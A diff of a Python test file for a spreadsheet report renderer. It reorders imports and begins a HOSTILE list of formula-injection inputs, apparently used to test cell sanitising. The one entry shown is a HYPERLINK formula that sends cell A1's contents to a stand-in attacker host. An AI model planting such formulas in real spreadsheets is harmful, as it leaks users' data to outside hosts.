@@ -12,19 +12,18 @@ from decimal import Decimal
 
 import openpyxl
 import python_calamine
+from conftest import EXAMPLE
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook
 
 from reporter.api.saved import load_file, validate_record
+from reporter.dates import get_zone
 from reporter.render.leveling import render_leveling
 from reporter.render.xlsx import render_xlsx
 from reporter.render.xlsx_cells import clean_text, link_target, write_value
 from reporter.render.xlsx_sheets import safe_sheet_name, safe_table_name
-from reporter.transform.dates import get_zone
 from reporter.transform.report import ReportContext, build_report
-
-from conftest import EXAMPLE
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
